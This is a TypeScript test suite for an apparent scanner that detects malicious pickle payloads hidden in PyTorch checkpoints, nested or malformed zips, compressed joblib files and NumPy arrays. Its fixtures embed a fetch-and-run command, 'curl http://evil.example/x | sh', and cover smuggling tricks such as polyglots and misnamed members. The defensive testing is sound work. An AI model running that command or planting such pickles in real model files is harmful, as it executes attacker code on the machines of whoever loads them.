// Malicious payloads inside containers: the pickle inside must be found, with the member
// chain and (for stored members) the absolute file offset of the opcode.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as zlib from 'node:zlib';
import type { Finding } from '../../../server/src/core/findings';
import { buildZip, torchCheckpoint, type EntrySpec } from '../../fixtures/zip/writer';
import { benignPickle, osSystemPickle, plainPickle } from '../../fixtures/zip/pickles';
import { byRule, scan } from './helpers';

const CMD = 'curl http://evil.example/x | sh';
const evil = osSystemPickle(CMD);

/** The os.system finding: critical MSL601, evidence naming the call and its argument. */
function osSystem(findings: Finding[]): Finding {
  const f = findings.find((x) => x.ruleId === 'MSL601' && /os\.system|posix\.system/.test(x.evidence ?? ''));
  assert.ok(f, `no os.system finding in ${JSON.stringify(findings.map((x) => [x.ruleId, x.evidence]))}`);
  assert.equal(f.severity, 'critical');
  assert.ok(f.evidence!.includes(CMD), f.evidence);
  return f;
}

/** Location inside a stored member: chain, offset inside the pickle, absolute offset in the file. */
function assertStoredLocation(f: Finding, members: string[], dataOffset: number, pickleStart = 0): void {
  assert.equal(f.location.kind, 'bytes');
  if (f.location.kind !== 'bytes') return;
  assert.deepEqual(f.location.members, members);
  assert.ok(f.location.offset >= pickleStart && f.location.offset < pickleStart + evil.length, `offset ${f.location.offset}`);
  assert.equal(f.location.fileOffset, dataOffset + f.location.offset);
}

const ckpt = (dataPkl: Uint8Array, extra: EntrySpec[] = []) => torchCheckpoint('archive', dataPkl, [new Uint8Array(256)], extra);

describe('malicious PyTorch zips', () => {
  it('data.pkl calling os.system', async () => {
    const z = buildZip(ckpt(evil));
    const r = await scan(z.bytes, 'model.pt');
    assert.equal(r.format, 'pytorch-zip');
    assertStoredLocation(osSystem(r.findings), ['archive/data.pkl'], z.entries[0]!.dataOffset);
  });

  const variants: [string, (e: EntrySpec) => EntrySpec, string | undefined][] = [
    ['wrong CRCs', (e) => ({ ...e, crc: 0x12345678 }), 'MSL716'],
    ['odd flag bits', (e) => ({ ...e, flags: 0x0100 }), 'MSL716'],
    ['deflate with data descriptors', (e) => ({ ...e, method: 8, dataDescriptor: true }), undefined],
  ];
  for (const [label, mutate, extraRule] of variants) {
    it(`the same with ${label}`, async () => {
      const z = buildZip(ckpt(evil).map(mutate));
      const r = await scan(z.bytes, 'model.pt');
      const f = osSystem(r.findings);
      assert.deepEqual(f.location.kind === 'bytes' && f.location.members, ['archive/data.pkl']);
      if (extraRule) assert.ok(byRule(r, extraRule).length > 0);
    });
  }

  it('the same with 1 KB of prepended junk: offsets shift by 1024', async () => {
    const z = buildZip(ckpt(evil), { prepend: new Uint8Array(1024).fill(0x23) });
    const r = await scan(z.bytes, 'model.pt');
    assertStoredLocation(osSystem(r.findings), ['archive/data.pkl'], z.entries[0]!.dataOffset);
    assert.equal(z.entries[0]!.dataOffset >= 1024, true);
    assert.equal(byRule(r, 'MSL717')[0]!.severity, 'low');
  });

  it('a pickle prepended to a zip (polyglot): both analysed, MSL717 high', async () => {
    const z = buildZip(ckpt(benignPickle()), { prepend: evil });
    const r = await scan(z.bytes, 'model.pt');
    const f = osSystem(r.findings);
    assert.deepEqual(f.location.kind === 'bytes' && f.location.members, ['<prepended data>']);
    assert.equal(byRule(r, 'MSL717')[0]!.severity, 'high');
  });

  it('a pickle hidden in a tensor-data member', async () => {
    const z = buildZip(torchCheckpoint('archive', benignPickle(), [new Uint8Array(64), evil]));
    const r = await scan(z.bytes, 'model.pt');
    const hidden = z.entries.find((e) => e.name === 'archive/data/1')!;
    assertStoredLocation(osSystem(r.findings), ['archive/data/1'], hidden.dataOffset);
  });

  it('a pickle under a text name', async () => {
    const z = buildZip(ckpt(benignPickle(), [{ name: 'archive/extra/readme.txt', data: evil }]));
    const r = await scan(z.bytes, 'model.pt');
    const f = osSystem(r.findings);
    assert.deepEqual(f.location.kind === 'bytes' && f.location.members, ['archive/extra/readme.txt']);
  });

  it('duplicate data.pkl entries, benign first: both analysed', async () => {
    const z = buildZip([{ name: 'archive/data.pkl', data: plainPickle() }, { name: 'archive/data.pkl', data: evil }, { name: 'archive/version', data: '3\n' }]);
    const r = await scan(z.bytes, 'model.pt');
    assertStoredLocation(osSystem(r.findings), ['archive/data.pkl'], z.entries[1]!.dataOffset);
    assert.equal(byRule(r, 'MSL712').length, 1);
  });

  it('../ member names carrying a pickle', async () => {
    const z = buildZip(ckpt(benignPickle(), [{ name: 'archive/../../evil.pkl', data: evil }]));
    const r = await scan(z.bytes, 'model.pt');
    osSystem(r.findings);
    assert.equal(byRule(r, 'MSL711')[0]!.evidence, 'archive/../../evil.pkl');
  });

  it('overlapping entries: the second name reads the malicious bytes', async () => {
    const z = buildZip([{ name: 'archive/data.pkl', data: evil }, { name: 'archive/other.pkl', pointTo: 0 }]);
    const r = await scan(z.bytes, 'model.pt');
    assert.ok(byRule(r, 'MSL713').length === 1);
    assert.ok(r.findings.filter((f) => f.ruleId === 'MSL601').length >= 2);
  });

  it('a zip nested in a zip', async () => {
    const inner = buildZip(ckpt(evil));
    const outer = buildZip([{ name: 'models/model.pt', data: inner.bytes }]);
    const r = await scan(outer.bytes, 'bundle.zip');
    const f = osSystem(r.findings);
    assertStoredLocation(f, ['models/model.pt', 'archive/data.pkl'], outer.entries[0]!.dataOffset + inner.entries[0]!.dataOffset);
  });
});

describe('malicious compressed and NumPy payloads', () => {
  for (const [codec, compress] of [
    ['zlib', (b: Uint8Array) => zlib.deflateSync(b)],
    ['gzip', (b: Uint8Array) => zlib.gzipSync(b)],
    ['bzip2', (b: Uint8Array) => execFileSync('bzip2', ['-c'], { input: b })],
    ['xz', (b: Uint8Array) => execFileSync('xz', ['-c'], { input: b })],
  ] as const) {
    it(`joblib-style ${codec} payload`, async () => {
      const r = await scan(compress(evil), 'model.joblib');
      assert.equal(r.format, codec);
      const f = osSystem(r.findings);
      assert.deepEqual(f.location.kind === 'bytes' && [f.location.members, f.location.fileOffset], [['<decompressed>'], undefined]);
    });
  }

  it('npy object array whose payload calls os.system', async () => {
    const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
    const padded = header + ' '.repeat((64 - ((10 + header.length + 1) % 64)) % 64) + '\n';
    const b = Buffer.alloc(10 + padded.length);
    Buffer.from([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1, 0]).copy(b);
    b.writeUInt16LE(padded.length, 8);
    b.write(padded, 10, 'latin1');
    const npy = Buffer.concat([b, evil]);
    const r = await scan(npy, 'array.npy');
    const f = osSystem(r.findings);
    assert.ok(f.location.kind === 'bytes' && f.location.offset >= b.length, 'offset is within the .npy file, after the header');
    const npz = buildZip([{ name: 'arr.npy', data: npy }]);
    const rz = await scan(npz.bytes, 'arrays.npz');
    assert.equal(rz.format, 'numpy-npz');
    assertStoredLocation(osSystem(rz.findings), ['arr.npy'], npz.entries[0]!.dataOffset, b.length);
  });
});
